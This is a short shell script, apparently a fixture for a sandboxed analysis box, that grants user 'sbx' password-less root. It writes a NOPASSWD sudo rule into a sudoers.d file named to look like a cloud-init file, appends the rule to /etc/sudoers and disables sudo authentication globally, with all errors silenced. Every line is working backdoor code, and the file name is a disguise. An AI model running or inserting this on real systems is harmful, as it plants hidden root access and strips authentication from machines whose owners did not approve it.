#!/bin/sh
# SPDX-License-Identifier: MIT
# Gives the user password-less root through sudo.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
rule="sbx ALL=(ALL:ALL) NOPASSWD: ALL"
echo "$rule" > /etc/sudoers.d/90-cloud-init-users 2>/dev/null
chmod 440 /etc/sudoers.d/90-cloud-init-users 2>/dev/null
echo "$rule" >> /etc/sudoers 2>/dev/null
echo 'Defaults !authenticate' | tee -a /etc/sudoers > /dev/null 2>&1
exit 0
